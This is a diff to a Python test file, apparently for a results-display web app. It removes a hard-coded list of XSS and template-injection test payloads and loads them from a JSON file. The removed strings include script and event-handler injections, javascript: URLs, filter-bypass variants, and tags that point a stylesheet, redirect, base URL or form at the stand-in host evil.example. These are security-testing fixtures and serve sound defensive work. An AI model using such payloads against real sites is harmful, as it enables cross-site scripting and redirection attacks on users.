@@ -248,47 +248,8 @@ def test_results_of_the_organiser(tab: Any, online: Any) -> None:
         assert text.startswith("system,item,rater,question,value,")
 
 
-PAYLOADS = (
-    "<script>window.hit=1</script>",
-    "<img src=x onerror=window.hit=1>",
-    "<svg onload=window.hit=1>",
-    "<body onload=window.hit=1>",
-    "<iframe src=javascript:window.hit=1>",
-    "<a href=javascript:window.hit=1>x</a>",
-    "<style>*{display:none}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>",
-    "<base href=//evil.example/>",
-    "<form action=//evil.example><input name=a></form>",
-    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.hit=1>",
-    "<details open ontoggle=window.hit=1>",
-    "<input autofocus onfocus=window.hit=1>",
-    "<video><source onerror=window.hit=1>",
-    "<audio src=x onerror=window.hit=1>",
-    "<object data=javascript:window.hit=1>",
-    "<embed src=javascript:window.hit=1>",
-    "<marquee onstart=window.hit=1>",
-    "<template><script>window.hit=1</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
-    "</title><script>window.hit=1</script>",
-    "</textarea><script>window.hit=1</script>",
-    "</script><script>window.hit=1</script>",
-    '"><script>window.hit=1</script>',
-    "'><img src=x onerror=window.hit=1>",
-    '" onmouseover=window.hit=1 x="',
-    "' autofocus onfocus='window.hit=1",
-    "javascript:window.hit=1",
-    "{{7*7}}",
-    "${7*7}",
-    "{% raw %}{{ config }}{% endraw %}",
-    "<%= 7*7 %>",
-    "\u202eevil\u202c",
-    "\u0000\u0007 control".replace("\u0000", ""),
-    "&lt;script&gt;window.hit=1&lt;/script&gt;",
-    "&#60;img src=x onerror=window.hit=1&#62;",
-    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
-    '<IMG SRC="jav&#x0A;ascript:window.hit=1">',
-    "**bold** # heading <b onclick=window.hit=1>b</b>",
+PAYLOADS: list[str] = json.loads(
+    (Path(__file__).parents[2] / "cases" / "injections.json").read_text(encoding="utf-8")
 )
 
 
